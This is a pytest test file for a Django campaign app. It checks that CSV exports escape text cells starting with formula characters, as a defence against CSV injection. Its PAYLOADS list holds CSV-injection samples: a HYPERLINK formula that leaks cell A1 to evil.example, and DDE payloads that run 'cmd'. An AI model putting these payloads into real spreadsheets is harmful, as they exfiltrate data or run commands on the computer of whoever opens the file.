"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection): every text cell that
starts with = + - @ tab or CR is written with a leading ', in every export and every grouping."""

import csv
import io

import pytest

from campaigns import services
from campaigns.models import AdSet, Campaign
from kolony.csvsafe import safe_cell

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _rows(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def hostile_tree(alice, alice_org, yesterday):
    names = []
    for n, payload in enumerate(PAYLOADS):
        campaign = services.campaign_create(organization=alice_org, actor=alice, name=f"{payload} c{n}",
                                            objective="sales", platforms=["meta"])
        ad_set = services.ad_set_create(campaign=campaign, actor=alice, name=f"{payload} s{n}", budget_minor=5000)
        ad = services.ad_create(ad_set=ad_set, actor=alice, name=f"{payload} a{n}", destination_url="https://aurora.example/")
        services.insights_upsert(ad=ad, rows=[{"platform": "meta", "date": yesterday, "impressions": 100, "clicks": 2,
                                               "spend_minor": 100, "conversions": 1, "conversion_value_minor": 300}])
        names += [campaign.name, ad_set.name, ad.name]
    return names


@pytest.mark.parametrize("url", ["/campaigns/export.csv", "/campaigns/report.csv?group_by=campaign&range=7",
                                 "/campaigns/report.csv?group_by=ad_set&range=7", "/campaigns/report.csv?group_by=ad&range=7"])
def test_no_exported_cell_starts_like_a_formula(alice_client, hostile_tree, url):
    rows = _rows(alice_client.get(url))
    cells = [cell for row in rows[1:] for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
                 or (c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit())]
    assert dangerous == []
    stored = set(hostile_tree) | set(Campaign.objects.values_list("name", flat=True)) | set(AdSet.objects.values_list("name", flat=True))
    names = [c for c in cells if c.startswith("'")]
    assert names and all(c[1:] in stored for c in names)
    assert len(names) >= len(PAYLOADS)  # every hostile name of this grouping came out escaped


def test_safe_cell_rule():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}x") == f"'{start}x"
    for value in ("-12.50", "+3", "1e-5", "Cold brew", "", 42, -7.5, None, "a=b"):
        assert safe_cell(value) == value
